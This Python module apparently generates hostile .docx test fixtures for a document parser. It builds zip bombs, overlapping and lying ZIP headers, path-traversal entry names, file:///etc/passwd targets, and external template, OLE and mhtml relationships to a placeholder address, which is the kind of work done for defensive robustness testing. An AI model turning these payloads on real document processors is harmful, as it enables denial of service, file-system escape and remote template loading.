"""Word files whose package is a bomb, a trap or a lie."""

import random
import struct
import zlib
from io import BytesIO
from zipfile import ZIP_BZIP2, ZIP_LZMA, ZIP_STORED, ZipFile

from hostile import Files, kind
from hostile._letter import BODY, RELATED, ROOT, TYPES, document, link, parts, word, zipped

BLANKS = b" " * (1 << 20)


@kind()
def zip_bomb() -> Files:
    padded = document(BODY + "<w:p/>" + " " * 100_000_000)
    lzma = BytesIO()
    with ZipFile(lzma, "w", ZIP_LZMA) as archive:
        archive.writestr("[Content_Types].xml", TYPES % "")
        archive.writestr("word/document.xml", document())
    # The head of what LZMA packed says how large a memory it wants.
    wants_all = lzma.getvalue().replace(
        b"\x09\x04\x05\x00\x5d", b"\x09\x04\x05\x00\x5d\xff\xff\xff\xff"
    )
    bzip2 = BytesIO()
    with ZipFile(bzip2, "w", ZIP_BZIP2) as archive:
        for name, part in parts().items():
            archive.writestr(name, part)
    return {
        "ratio.docx": word(more={"word/document.xml": padded}),
        "styles.docx": word(
            links=link("r1", "styles", "styles.xml"), more={"word/styles.xml": BLANKS * 100}
        ),
        "relationships.docx": word(more={"word/_rels/document.xml.rels": BLANKS * 100}),
        "types.docx": word(more={"[Content_Types].xml": BLANKS * 100}),
        "lzma.docx": wants_all,
        "bzip2.docx": bzip2.getvalue(),
    }


@kind(holds_letter=True)
def zip_bomb_beside_a_letter() -> Files:
    many = {f"word/media/{n}.png": b"0" for n in range(9000)}
    large = {f"word/media/{n}.bin": BLANKS * 50 for n in range(5)}
    return {
        "many.docx": word(more=many),
        "large.docx": word(more=large),
        "nested.docx": word(more={"word/embeddings/a.docx": word(more=large)}),
    }


@kind()
def too_many_entries() -> Files:
    empty = struct.pack("<4sHHHHHIIIHHHHHII", b"PK\x01\x02", *(0,) * 5, 0, 0, 0, 1, *(0,) * 4, 0, 0)
    end = struct.pack(
        "<4sHHHHIIH", b"PK\x05\x06", 0, 0, 0xFFFF, 0xFFFF, len(empty + b"a") * 900_000, 0, 0
    )
    return {
        "many.docx": b"PK\x03\x04" + (empty + b"a") * 900_000 + end,
        "twenty-thousand.docx": zipped({f"word/{n}": b"" for n in range(20_000)}),
    }


@kind()
def overlapping_entries() -> Files:
    """One packed stream that every entry claims."""
    packed = zlib.compress(BLANKS * 30, 9)[2:-4]
    head = struct.pack(
        "<4sHHHHHIIIHH",
        b"PK\x03\x04",
        20,
        0,
        8,
        0,
        0,
        zlib.crc32(BLANKS * 30),
        len(packed),
        30 << 20,
        17,
        0,
    )
    data = head + b"word/document.xml" + packed
    rows = b""
    names = ["[Content_Types].xml", "_rels/.rels", "word/document.xml"]
    names += [f"word/{n}.xml" for n in range(500)]
    for name in names:
        rows += (
            struct.pack(
                "<4sHHHHHHIIIHHHHHII",
                b"PK\x01\x02",
                20,
                20,
                0,
                8,
                0,
                0,
                zlib.crc32(BLANKS * 30),
                len(packed),
                30 << 20,
                len(name),
                0,
                0,
                0,
                0,
                0,
                0,
            )
            + name.encode()
        )
    end = struct.pack(
        "<4sHHHHIIH", b"PK\x05\x06", 0, 0, len(names), len(names), len(rows), len(data), 0
    )
    return {"overlapping.docx": data + rows + end}


@kind()
def lying_sizes() -> Files:
    good = bytearray(word())
    at = good.rindex(b"PK\x01\x02")
    small, large = bytearray(good), bytearray(good)
    small[at + 24 : at + 28] = struct.pack("<I", 5)
    large[at + 24 : at + 28] = struct.pack("<I", 0xFFFFFFF0)
    far = bytearray(good)
    far[at + 42 : at + 46] = struct.pack("<I", 0x7FFFFFFF)
    return {"small.docx": bytes(small), "large.docx": bytes(large), "far.docx": bytes(far)}


@kind()
def truncated() -> Files:
    good = word()
    return {f"{n}.docx": good[: len(good) * n // 8] for n in range(1, 8)}


@kind()
def flipped() -> Files:
    files = {}
    lot = random.Random(6)  # noqa: S311 - a lot drawn, not a secret
    for number in range(6):
        data = bytearray(word())
        for _ in range(8):
            data[lot.randrange(4, len(data))] ^= 1 << lot.randrange(8)
        files[f"{number}.docx"] = bytes(data)
    return files


@kind(holds_letter=True)
def path_tricks() -> Files:
    """Names that lead out of the package, none of which may be opened or written."""
    held = parts(links=link("r9", "styles", "../../../../../etc/passwd"))
    return {
        "out.docx": zipped({**held, "../../../../tmp/letterproof-was-here.xml": "<a/>"}),
        "root.docx": zipped({**held, "/etc/letterproof-was-here.xml": "<a/>"}),
        "drive.docx": zipped({**held, "C:\\Windows\\letterproof-was-here.xml": "<a/>"}),
        "target.docx": word(links=link("r9", "image", "file:///etc/passwd")),
        "null.docx": zipped({**held, "word/a\0b.xml": "<a/>", "word/\x1b[2J\n.xml": "<a/>"}),
    }


@kind(holds_letter=True)
def outside_relationships() -> Files:
    """What Word would fetch; nothing of it is asked for. The address belongs to no one."""
    outside = 'TargetMode="External"'
    places = {
        "template": ("attachedTemplate", "http://203.0.113.1/t.dotm"),
        "share": ("attachedTemplate", "\\\\203.0.113.1\\share\\t.dotm"),
        "image": ("image", "http://203.0.113.1/a.png"),
        "file": ("image", "file:///dev/zero"),
        "frame": ("frame", "http://203.0.113.1/a.htm"),
        "object": ("oleObject", "mhtml:http://203.0.113.1/x.html!x-usc:http://203.0.113.1/x"),
        "link": ("hyperlink", "javascript:alert(1)"),
    }
    return {
        f"{name}.docx": word(
            BODY + '<w:p><w:r><w:drawing><a:blip r:link="r9" r:embed="r9"/>'
            "</w:drawing></w:r></w:p>",
            links=link("r9", kind, target, outside),
        )
        for name, (kind, target) in places.items()
    }


@kind()
def relationship_loops() -> Files:
    itself = RELATED % link("r1", "officeDocument", "_rels/.rels")
    return {
        "root.docx": zipped({**parts(), "_rels/.rels": itself}),
        "header.docx": word(
            BODY + '<w:sectPr><w:headerReference r:id="r9"/></w:sectPr>',
            links=link("r9", "header", "document.xml"),
        ),
        "many.docx": word(
            links="".join(link(f"r{n}", "image", "a.png") for n in range(200_000)),
        ),
        "no-main.docx": zipped({"[Content_Types].xml": TYPES % "", "_rels/.rels": ROOT}),
        "empty-main.docx": word(more={"word/document.xml": ""}),
        "other-main.docx": word(more={"word/document.xml": "<html><body>hello</body></html>"}),
    }


@kind()
def stored_noise() -> Files:
    noise = random.Random(7).randbytes(200_000)  # noqa: S311
    stored = BytesIO()
    with ZipFile(stored, "w", ZIP_STORED) as archive:
        archive.writestr("word/document.xml", noise)
    return {
        "noise.docx": stored.getvalue(),
        "head.docx": b"PK\x03\x04" + noise,
        "end.docx": b"PK\x03\x04" + noise + b"PK\x05\x06" + b"\xff" * 18,
        "only-end.docx": b"PK\x05\x06" + b"\0" * 18,
    }
